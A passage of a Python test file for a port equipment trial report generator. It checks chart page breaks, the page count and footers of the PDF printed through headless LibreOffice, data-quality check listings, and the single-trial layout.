    return int(last) - int(first) + 1


def test_a_chart_that_would_cross_a_page_starts_one_with_its_heading_and_table() -> None:
    heading, table = Band(1, 15, starts_paragraph=True), Band(2, 300)
    second = [Band(22, 15, starts_paragraph=True), Band(23, 60), Band(27, 300, whole=True)]
    narrow = PAGE_WIDTH_POINTS / 2
    # 15 + 300 + 15 + 60 points leave 74 of the page's 464 for a chart of 300: the second block moves to a new page.
    assert page_breaks([heading, table, *second], narrow, 0) == [21]
    assert page_breaks([heading, *second], narrow, 0) == []  # 390 points fit on one page
    # Twice as wide as the page, the sheet prints at half size: a page holds twice the points, and the chart fits.
    assert page_breaks([heading, table, *second], 2 * PAGE_WIDTH_POINTS, 0) == []


@pytest.fixture
def printing(tmp_path: Path) -> Iterator[tuple[list[str], str, str]]:
    """LibreOffice headless (with a profile of its own), pdfinfo and pdftotext; in CI they must be there."""
    tools = {"soffice": SOFFICE, "pdfinfo": shutil.which("pdfinfo"), "pdftotext": shutil.which("pdftotext")}
    missing = [name for name, path in tools.items() if path is None]
    if missing:
        message = f"{', '.join(missing)} not installed (apt-get install libreoffice-calc-nogui poppler-utils)"
        if os.environ.get("CI") == "true":
            pytest.fail(f"{message}: .ci/run installs them")
        pytest.skip(f"{message}: the printed report's page count is not checked")
    soffice = [str(SOFFICE), f"-env:UserInstallation={(tmp_path / 'lo-profile').as_uri()}", "--headless"]
    yield soffice, str(tools["pdfinfo"]), str(tools["pdftotext"])


def _printed(content: bytes, tools: tuple[list[str], str, str], folder: Path) -> list[str]:
    """The report converted to PDF by LibreOffice, as the text of each page."""
    soffice, pdfinfo, pdftotext = tools
    workbook = folder / "report.xlsx"
    workbook.write_bytes(content)
    subprocess.run([*soffice, "--convert-to", "pdf", "--outdir", str(folder), str(workbook)],
                   check=True, capture_output=True, timeout=300)  # fmt: skip
    pdf = folder / "report.pdf"
    info = subprocess.run([pdfinfo, str(pdf)], check=True, capture_output=True, text=True).stdout
    pages = int(re.search(r"^Pages:\s+(\d+)$", info, re.MULTILINE).group(1))  # type: ignore[union-attr]
    read = [pdftotext, "-layout", "-f", "{page}", "-l", "{page}", str(pdf), "-"]
    return [
        subprocess.run([part.format(page=page) for part in read], check=True, capture_output=True, text=True).stdout
        for page in range(1, pages + 1)
    ]


def _check_pages(pages: list[str], title: str) -> None:
    """At most 12 pages, the Cover alone on page 1, and no page without its footer or with nothing else on it."""
    assert len(pages) <= 12, [page.strip().splitlines()[0] for page in pages]
    assert title in pages[0] and f"Cover, page 1 of {len(pages)}" in pages[0]
    assert "Comparison" not in pages[0] and "About the trial" not in pages[0]
    assert f"Comparison, page 2 of {len(pages)}" in pages[1]
    for number, page in enumerate(pages, 1):
        lines = [line for line in page.splitlines() if line.strip()]
        assert f"page {number} of {len(pages)}" in lines[-1], number  # the footer, on every page
        assert len(lines) > 2, (number, lines)  # never a page of a footer alone


@pytest.mark.slow
def test_a_four_trial_port_report_prints_in_at_most_12_pages_with_the_cover_alone(
    demo: Engine, printing: tuple[list[str], str, str], tmp_path: Path
) -> None:
    with read_session(demo) as session:
        content = build(session, selection=Selection(port="JPNGO"), include_measurements=False)
    assert named(open_book(content), "TrialCount") == 4
    _check_pages(_printed(content, printing, tmp_path), "Port of Nagoya — 4 trials")


@pytest.mark.slow
def test_a_four_trial_report_with_a_few_raw_rows_prints_in_at_most_12_pages(
    session: Session, printing: tuple[list[str], str, str], tmp_path: Path
) -> None:
    kinds = [EquipmentClass.yard_tractor, EquipmentClass.yard_tractor, EquipmentClass.rtg_crane, EquipmentClass.tug]
    for number, kind in enumerate(kinds, 1):
        trial = make_trial(session, code=f"LGB-{number}", equipment_class=kind, baseline_rate=6.0, baseline_unit="L/h")
        unit = make_unit(session, trial)
        make_measurements(
            session,
            unit,
            {date(2024, 3, 1 + day): {"operating_hours": 8.0, "energy_kwh": 100.0 + number} for day in range(3)},
        )
    content = build(session, selection=Selection(port="USLGB"))
    assert open_book(content).sheetnames[4] == "Measurements"
    _check_pages(_printed(content, printing, tmp_path), "Port of Long Beach — 4 trials")


def test_data_quality_lists_every_trust_check_in_words(reader: Session, long_beach_book: Workbook) -> None:
    trials = list_trials(session=reader, scope=OPERATOR, port="USLGB")
    expected = [
        [trial.code, check.message, {"exclude": "left out of totals", "warn": "warning", "info": "note"}[check.level]]
        for trial in trials
        for check in trial_metrics(session=reader, scope=OPERATOR, trial=trial, as_of=AS_OF).checks
    ]
    assert expected  # the demo's Long Beach trials do raise checks
    assert [list(row.values()) for row in table_rows(long_beach_book, "Checks")] == expected
    coverage = {row["Trial"]: row for row in table_rows(long_beach_book, "Coverage")}
    assert list(coverage) == [trial.code for trial in trials]
    assert {row["Status"] for row in coverage.values()} <= {"planned", "active", "completed", "cancelled"}


def test_a_one_trial_report_has_no_chart_of_a_single_bar(session: Session) -> None:
    make_trial(session, code="LGB-YT-01")
    book = open_book(build(session, selection=Selection(trial_codes=("LGB-YT-01",))))
    assert book["Cover"]._charts == [] and book["Comparison"]._charts == []
    assert named(book, "TrialCount") == 1 and named(book, "ReportScope") == "Trial LGB-YT-01"
    assert book["Cover"]["A1"].value == "Trial LGB-YT-01 — 1 trial"
